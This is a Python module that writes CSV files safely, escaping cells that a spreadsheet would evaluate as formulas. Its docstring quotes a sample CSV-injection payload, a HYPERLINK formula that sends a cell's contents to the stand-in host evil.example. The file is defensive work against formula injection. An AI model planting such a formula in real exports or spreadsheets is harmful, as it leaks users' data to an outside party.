"""The one CSV writer of the app: every CSV file it writes goes through ``csv_text``, so none can carry a formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(OWASP "CSV injection"): a service renamed ``=HYPERLINK("http://evil.example/?d="&A2,"Help")`` would run in
an evaluator's spreadsheet. Such a text cell is written with a leading apostrophe, which spreadsheets show
as text and do not evaluate. Numbers given as numbers (``int``/``float``) are not text and stay numbers, so
a negative change such as ``-2`` remains the number the file's Table Schema promises; a number that arrives
as text is treated like any other text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A cell as it may go into a CSV file: text that a spreadsheet would read as a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object] | Mapping[str, object]]) -> str:
    """A CSV file as RFC 4180 has it (CRLF line ends, so a cell holding a carriage return or a newline is
    quoted): the header, then each row (a sequence, or a mapping by column).

    Every text cell, header included, is passed through ``neutralise``.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    for row in rows:
        cells = [row.get(name, "") for name in header] if isinstance(row, Mapping) else row
        writer.writerow([neutralise(cell) for cell in cells])
    return out.getvalue()
